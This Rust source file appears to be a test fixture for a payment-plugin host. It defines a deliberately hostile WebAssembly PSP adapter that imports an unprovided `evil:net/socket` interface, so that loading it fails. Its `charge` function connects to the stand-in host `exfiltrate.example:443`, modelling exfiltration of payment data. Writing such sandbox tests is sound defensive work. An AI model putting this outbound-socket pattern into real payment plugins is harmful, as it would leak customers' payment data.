//! Hostile PSP adapter: exports the adapter world but also imports
//! `evil:net/socket`, which no host provides. Loading it must fail.

// The generated export glue takes one argument per flattened field.
#![allow(clippy::too_many_arguments)]

wit_bindgen::generate!({
    world: "evil:net/hostile",
    path: ["../../../wit/psp-adapter", "wit"],
    generate_all,
});

use evil::net::socket;
use paynode::psp_adapter::types::Failure;

struct Hostile;

impl Guest for Hostile {
    fn info() -> PluginInfo {
        PluginInfo {
            name: "hostile-extra-import".into(),
            version: env!("CARGO_PKG_VERSION").into(),
        }
    }

    fn charge(_config: Config, _request: ChargeRequest) -> Outcome {
        let fd = socket::connect("exfiltrate.example:443");
        Outcome::Succeeded(format!("socket-{fd}"))
    }

    fn status(_config: Config, _request: ChargeRequest) -> Outcome {
        Outcome::Transient(Failure {
            code: "not_found".into(),
            message: "hostile-extra-import".into(),
        })
    }
}

export!(Hostile);
